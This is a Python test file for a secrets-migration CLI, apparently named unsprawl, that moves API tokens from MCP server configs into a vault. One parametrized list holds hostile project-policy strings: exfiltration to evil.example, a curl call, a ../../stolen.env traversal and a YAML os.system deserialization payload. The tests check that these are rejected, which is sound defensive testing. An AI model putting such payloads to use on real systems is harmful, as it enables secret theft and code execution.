"""Options of `migrate` that scripts rely on: targets, no keyring, no path, `--start`."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.cli.homes import RECORDER, github
from tests.cli.program import Program, git, program
from tests.rewriters.support import kept
from unsprawl.rewriters.journal import journal_files
from unsprawl.rewriters.planner import ALL_TARGETS, AUTO
from unsprawl.scanner.oauth.login.sdk import usable
from unsprawl.vault.age_store import AgeStore

TOKEN = github(501)
NO_KEYRING = [
    {},
    {"DBUS_SESSION_BUS_ADDRESS": ""},
    {"DBUS_SESSION_BUS_ADDRESS": "unix:path=/nonexistent/bus"},
    {"DBUS_SESSION_BUS_ADDRESS": "no address", "DISPLAY": ":99"},
]


@pytest.fixture
def start(home: Path, tmp_path: Path) -> Program:
    return program(home, tmp_path / "bin")


def config(path: Path, **servers: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"mcpServers": servers}, indent=2) + "\n")
    return path


def entry(token: str = TOKEN, **more: Any) -> dict[str, Any]:
    return {"command": "npx", "args": ["-y", "server-x"], "env": {"GITHUB_TOKEN": token}, **more}


def test_an_unknown_target_lists_the_known_ones(start: Program) -> None:
    done = start("migrate", "--to", "nosuch")
    assert (done.returncode, done.stdout) == (2, "")
    for known in (AUTO, *ALL_TARGETS):
        assert f"'{known}'" in done.stderr


@pytest.mark.parametrize("variables", NO_KEYRING, ids=range(len(NO_KEYRING)))
def test_without_a_keyring_the_file_vault_is_taken_and_nothing_asked(
    variables: dict[str, str], start: Program, home: Path
) -> None:
    path = config(home / ".claude.json", x=entry())
    before = path.read_bytes()
    done = start("migrate", "--yes", "--to", "run", "--format", "json", stdin="", env=variables)
    assert (done.returncode, done.stderr) == (0, "")
    document = json.loads(done.stdout)
    assert [outcome["status"] for outcome in document["outcomes"]] == ["done"]
    assert document["stores"] == [AgeStore.id]
    assert TOKEN not in path.read_text()
    assert kept()[0]
    verified = start("verify", "--format", "json", env=variables)
    assert "npx, is not on PATH" in verified.stdout  # the value is there, and only the server's program is not
    assert start("undo", "--yes", env=variables).returncode == 0
    assert path.read_bytes() == before


def test_without_a_path_it_is_about_what_scan_is_about(start: Program, home: Path) -> None:
    """This user's host files, and the repository around the working folder; not what lies elsewhere in the home."""
    mine = config(home / ".cursor" / "mcp.json", mine=entry(github(502)))
    here = config(home / "here" / ".mcp.json", here=entry(github(503)))
    below = config(home / "here" / "sub" / ".cursor" / "mcp.json", below=entry(github(504)))
    elsewhere = config(home / "elsewhere" / ".mcp.json", elsewhere=entry(github(505)))
    git(home / "here", "init", "-q")
    scanned = json.loads(start("scan", "--format", "json", cwd=home / "here" / "sub").stdout)
    assert {finding["entry"] for finding in scanned["findings"]} == {"mine", "here", "below"}
    done = start("migrate", "--yes", "--format", "json", cwd=home / "here" / "sub")
    assert {outcome["entry"] for outcome in json.loads(done.stdout)["outcomes"]} == {"mine", "here", "below"}
    for number, path in ((502, mine), (503, here), (504, below)):
        assert github(number) not in path.read_text()
    assert github(505) in elsewhere.read_text()


@pytest.mark.skipif(not usable(), reason="needs the MCP SDK")
def test_start_asks_the_moved_servers_and_no_other(start: Program, home: Path, tmp_path: Path) -> None:
    log = tmp_path / "record.jsonl"
    local = {"command": sys.executable, "args": [str(RECORDER), "--record-to", str(log)]}
    config(
        home / ".claude.json",
        moved={**local, "env": {"GITHUB_TOKEN": TOKEN}},
        other={"command": sys.executable, "args": [str(RECORDER), "--record-to", str(tmp_path / "other.jsonl")]},
    )
    done = start("migrate", "--to", "run", "--yes", "--start")
    assert done.returncode == 0, (done.stdout, done.stderr)
    assert "the server answered and has the same 1 tool as before" in " ".join(done.stdout.split())
    assert done.stderr.count("starting: ") == 2  # before and after; shown, though not asked about
    assert TOKEN not in done.stdout + done.stderr
    got = [json.loads(line)["env"]["GITHUB_TOKEN"] for line in log.read_text().splitlines()]
    assert got == [TOKEN, TOKEN]
    assert TOKEN not in "".join(path.read_text() for path in journal_files())
    again = start("verify", "--start", "--yes")
    assert "has the same 1 tool as before" in " ".join(again.stdout.split())
    assert not (tmp_path / "other.jsonl").exists()


@pytest.mark.skipif(not usable(), reason="needs the MCP SDK")
def test_a_server_that_does_not_start_is_told_and_can_be_taken_back(start: Program, home: Path) -> None:
    path = config(home / ".claude.json", x={"command": "/bin/false", "env": {"GITHUB_TOKEN": TOKEN}})
    before = path.read_bytes()
    done = start("migrate", "--to", "run", "--yes", "--start", "--format", "json")
    assert done.returncode == 1
    statuses = [(outcome["target"], outcome["status"]) for outcome in json.loads(done.stdout)["outcomes"]]
    assert ("run", "done") in statuses
    assert ("verify", "failed") in statuses
    assert start("undo", "--yes").returncode == 0
    assert path.read_bytes() == before


def test_nothing_is_started_by_yes(start: Program, home: Path, tmp_path: Path) -> None:
    log = tmp_path / "record.jsonl"
    config(
        home / ".claude.json",
        x={
            "command": sys.executable,
            "args": [str(RECORDER), "--record-to", str(log)],
            "env": {"GITHUB_TOKEN": TOKEN},
        },
    )
    for words in (["migrate", "--dry-run", "--start"], ["migrate", "--yes"]):
        start(*words)
        assert not log.exists()


# --- policies of a hostile tree

LOOSENING = [
    "version: 1\ntargets: [reference]\n",
    "version: 1\ntargets: [reference, run, wire, oauth]\n",
    "version: 1\nstore: file\n",
    "version: 1\nurl: https://evil.example/collect\n",
    "version: 1\ntargets: [{reference: {file: ../../stolen.env}}]\n",
    "version: 1\nrun: curl evil.example\n",
    "version: 1\nvault: {store: none}\n",
    "version: 1\ntargets: &a [*a]\n",
    "version: 1\ntargets: !!python/object/apply:os.system ['touch pwned']\n",
]


@pytest.mark.parametrize("text", LOOSENING, ids=range(len(LOOSENING)))
def test_a_policy_in_a_tree_allows_nothing_that_mine_does_not(text: str, start: Program, home: Path) -> None:
    """My own policy says: the vault. Whatever the tree's says, the key goes to the vault or stays."""
    project = home / "project"
    path = config(project / ".mcp.json", x=entry())
    git(project, "init", "-q")
    (home / ".config" / "unsprawl").mkdir(parents=True)
    (home / ".config" / "unsprawl" / "policy.yaml").write_text("version: 1\ntargets: [run]\n")
    (project / ".unsprawl.yaml").write_text(text)
    before = path.read_bytes()
    for words in (["--yes"], ["--yes", "--to", "reference"], ["--yes", "--to", "run"]):
        done = start("migrate", ".", *words, "--format", "json", cwd=project)
        document = json.loads(done.stdout)
        assert done.returncode in (0, 4), (words, done.stdout, done.stderr)
        assert kept()[2] == set(), words
        for outcome in document["outcomes"]:
            assert (outcome["target"], outcome["status"]) == ("run", "done")
        if not document["outcomes"]:
            assert path.read_bytes() == before
            assert "policy does not allow it" in json.dumps(document["plan"]["refusals"])
        elif TOKEN not in path.read_text():
            assert start("undo", "--yes").returncode == 0
        assert path.read_bytes() == before
    assert not (home / "stolen.env").exists()
    assert not (project / "pwned").exists()


def test_a_policy_in_a_tree_says_nothing_about_what_is_outside(start: Program, home: Path) -> None:
    project = home / "project"
    config(project / ".mcp.json", x=entry())
    git(project, "init", "-q")
    (project / ".unsprawl.yaml").write_text("version: 1\ntargets: []\nignore: [{path: '/**', reason: x}]\n")
    config(home / ".claude.json", mine=entry(github(506)))
    document = json.loads(start("migrate", "--yes", "--format", "json", cwd=project).stdout)
    assert [(each["entry"], each["status"]) for each in document["outcomes"]] == [("mine", "done")]


def test_what_a_tree_silences_stays_and_is_counted(start: Program, home: Path) -> None:
    project = home / "project"
    path = config(project / ".mcp.json", x=entry())
    git(project, "init", "-q")
    (project / ".unsprawl.yaml").write_text("version: 1\nignore: [{path: .mcp.json, reason: 'nothing to see'}]\n")
    before = path.read_bytes()
    done = start("migrate", ".", "--yes", cwd=project)
    assert "1 secret is not shown: 1 by an ignore list; they stay." in done.stdout
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (["--sent", "ACME_KEY=header@api.acme.test"], "--sent is for `--to wire`"),
        (["--to", "wire", "--sent", "ACME_KEY"], "no destination"),
        (["--to", "wire", "--sent", "OTHER_KEY=header@api.acme.test"], "no key stands in OTHER_KEY"),
        (
            ["--to", "wire", "--sent", "ACME_KEY=header@a.test", "--sent", "ACME_KEY=header@b.test"],
            "names one key twice",
        ),
    ],
)
def test_where_a_key_is_sent_is_taken_with_the_target_alone(
    words: list[str], says: str, start: Program, home: Path
) -> None:
    config(home / ".claude.json", x={"command": "npx", "env": {"ACME_KEY": "Xk29" + "sdfQQpz1mW40"}})
    done = start("migrate", "--dry-run", *words)
    assert (done.returncode, done.stdout) == (2, "")
    assert says in done.stderr


def test_a_key_goes_where_the_user_says(start: Program, home: Path) -> None:
    path = config(home / ".claude.json", x={"command": "npx", "env": {"ACME_KEY": "Xk29" + "sdfQQpz1mW40"}})
    done = start("migrate", "--to", "wire", "--sent", "ACME_KEY=header@api.acme.test", "--yes", "--store", "age-file")
    assert done.returncode == 0, done.stderr
    assert "the key goes to api.acme.test only" in " ".join(done.stdout.split())
    assert '"--wire"' in path.read_text()
